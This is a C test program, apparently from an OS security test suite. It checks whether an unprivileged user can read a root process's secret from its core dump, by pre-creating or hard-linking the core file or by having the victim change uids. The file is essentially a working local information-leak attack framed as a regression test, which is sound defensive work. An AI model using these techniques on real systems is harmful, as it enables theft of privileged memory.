// core(5): reads the memory of a root process out of the core that it leaves.
//
// The victim has read a secret, as root. Each round it ends by a fault with RLIMIT_CORE, in a directory where
// the attacker (uid 1000) may write:
//   file       the attacker has put its own file where the core goes, and keeps it open
//   link       the attacker has put a second name of its file there
//   undumpable the victim said PR_SET_DUMPABLE 0, the file system ids are the attacker's
//   ids        the victim has become the attacker's user, as servers do
//   fsuid      the same with the file system's ids only
// Won: the attacker reads the secret.
#include "attack.h"
#include <sys/fsuid.h>
#include <sys/resource.h>

#define USER 1000
static char secret[64];
enum { OWN_FILE, OWN_LINK, UNDUMPABLE, IDS, FSUID, KINDS };
static const char *const kind_name[] = {"file", "link", "undumpable", "ids", "fsuid"};

static void victim(void *arg) {
    int kind = *(int *)arg;
    struct rlimit most;
    getrlimit(RLIMIT_CORE, &most);
    most.rlim_cur = most.rlim_max;
    setrlimit(RLIMIT_CORE, &most);
    // The heap: in the core, but not in the program's file.
    char *kept = malloc(sizeof secret);
    memcpy(kept, secret, sizeof secret);
    if (kind == UNDUMPABLE)
        prctl(PR_SET_DUMPABLE, 0);
    if (kind == IDS && syscall(SYS_setresuid, USER, USER, USER) < 0)
        attack_broken("setresuid");
    if (kind == FSUID || kind == UNDUMPABLE)
        setfsuid(USER);
    *(volatile char *)8 = kept[0];
}

static void look(const char *name, int fd, int kind) {
    char *text = malloc(1 << 20);
    for (ssize_t n; (n = read(fd, text, 1 << 20)) > 0;)
        if (memmem(text, (size_t)n, secret, sizeof secret))
            attack_won("%s: %s holds the memory of a root process", kind_name[kind], name);
    free(text);
}

static void attacker(void *arg) {
    int kind = *(int *)arg, own = -1;
    if (syscall(SYS_setresuid, USER, USER, USER) < 0)
        attack_broken("setresuid");
    if (kind == OWN_FILE)
        own = open("core", O_RDWR | O_CREAT | O_EXCL, 0666);
    if (kind == OWN_LINK) {
        own = open("mine", O_RDWR | O_CREAT | O_EXCL, 0666);
        if (link("mine", "core") < 0)
            attack_broken("link");
    }
    if (own >= 0)
        fchmod(own, 0666);
    if (write(3, "x", 1) != 1) // there: the victim may die
        attack_broken("write");
    char c;
    if (read(4, &c, 1) < 0)
        attack_broken("read");
    if (own >= 0)
        look("its own file", own, kind);
    int fd = open("core", O_RDONLY);
    if (fd >= 0)
        look("a core that it may read", fd, kind);
}

static int cores_are_files(void) {
    char pattern[8] = "";
    int fd = open("/proc/sys/kernel/core_pattern", O_RDONLY);
    read(fd, pattern, sizeof pattern - 1);
    close(fd);
    return !strcmp(pattern, "core\n");
}

static void round_of(int kind) {
    int ready[2], dead[2];
    char folder[] = "/tmp/coreXXXXXX", c;
    if (!mkdtemp(folder) || chdir(folder) < 0 || chmod(folder, 0777) < 0 || pipe(ready) < 0 || pipe(dead) < 0)
        attack_broken("preparation");
    pid_t pid = fork();
    if (pid == 0) {
        dup2(ready[1], 13), dup2(dead[0], 14);
        dup2(13, 3), dup2(14, 4);
        for (int fd = 5; fd < 16; fd++)
            close(fd);
        attacker(&kind);
        _exit(0);
    }
    close(ready[1]);
    close(dead[0]);
    if (read(ready[0], &c, 1) != 1)
        attack_broken("attacker");
    attack_child(victim, &kind);
    close(dead[1]);
    close(ready[0]);
    int status;
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
        ;
    if (attack_child_won(status))
        _exit(ATTACK_WON);
    if (!WIFEXITED(status) || WEXITSTATUS(status))
        attack_broken("attacker");
    // The attack means nothing where no cores are made at all: the victim's own has to be there.
    struct stat st;
    if (kind <= OWN_LINK && cores_are_files() && (stat("core", &st) < 0 || st.st_uid || !st.st_size))
        attack_broken("no core of the victim's own");
    unlink("core");
    unlink("mine");
    chdir("/");
    rmdir(folder);
}

int main(int argc, char **argv) {
    attack_check_native();
    int fd = open("/dev/urandom", O_RDONLY);
    if (read(fd, secret, sizeof secret) != sizeof secret)
        attack_broken("urandom");
    close(fd);
    for (int kind = 0; kind < KINDS; kind++)
        if (argc < 2 || !strcmp(argv[1], kind_name[kind]))
            round_of(kind);
    attack_lost();
}
